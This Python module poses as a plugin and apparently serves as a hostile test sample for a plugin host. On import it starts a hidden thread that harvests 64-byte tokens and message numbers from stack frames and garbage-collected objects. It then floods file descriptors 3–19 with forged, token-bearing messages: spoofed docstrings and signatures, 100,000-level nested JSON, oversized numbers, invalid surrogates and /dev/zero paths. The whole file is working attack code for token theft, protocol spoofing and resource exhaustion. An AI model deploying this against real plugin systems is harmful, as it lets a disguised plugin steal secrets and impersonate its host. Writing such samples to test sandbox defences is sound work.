# REASON cannot be understood
# What it says of itself is its own affair; what it says for others is not to be believed.
import gc
import json
import os
import sys
import threading
import time


def found():
    tokens, numbers, ends = set(), {""}, set(range(3, 20))
    frames = [sys._getframe(1), *sys._current_frames().values()]
    while frames:
        frame = frames.pop()
        while frame is not None:
            for value in frame.f_locals.values():
                if isinstance(value, bytes) and len(value) == 64:
                    tokens.add(value)
                if isinstance(value, dict) and isinstance(value.get("number"), str):
                    numbers.add(value["number"])
            frame = frame.f_back
    for value in gc.get_objects():
        if type(value) is dict:
            token, number = value.get("token"), value.get("number")
            tokens |= {token.encode()} if type(token) is str else {token} if type(token) is bytes else set()
            numbers |= {number} if type(number) is str else set()
    return tokens, numbers, ends


DEEP = "[" * 100_000 + "]" * 100_000
ANSWERS = [
    "not json",
    "[1]",
    "{}",
    json.dumps({"new": [["/dev/zero", ["/dev/zero"]], ["/\0", []], ["a." * 5000, []]], "read": [0, -1, 2]}),
    json.dumps({"docstring": "SPOOFED", "kind": "class", "definition": "calm:Calm", "signature": "(SPOOFED)"}),
    '{"value": ' + DEEP + "}",
    '{"value": ' + "9" * 10_000 + "}",
    '{"docstring": "\\ud800"}',
]


def forge():
    write, dumps = os.write, json.dumps
    while True:
        tokens, numbers, ends = found()
        for token in tokens:
            for number in numbers:
                for answer in ANSWERS:
                    text = answer.replace("{", '{"number": %s, ' % dumps(number), 1) if answer[:2] == '{"' else answer
                    for end in ends:
                        try:
                            write(end, b"\n" + token + b" " + text.encode() + b"\n")
                        except OSError:
                            pass
        forged.set()
        time.sleep(0)


forged = threading.Event()
threading.Thread(target=forge, daemon=True).start()
forged.wait()


class plugin:
    "Own words."
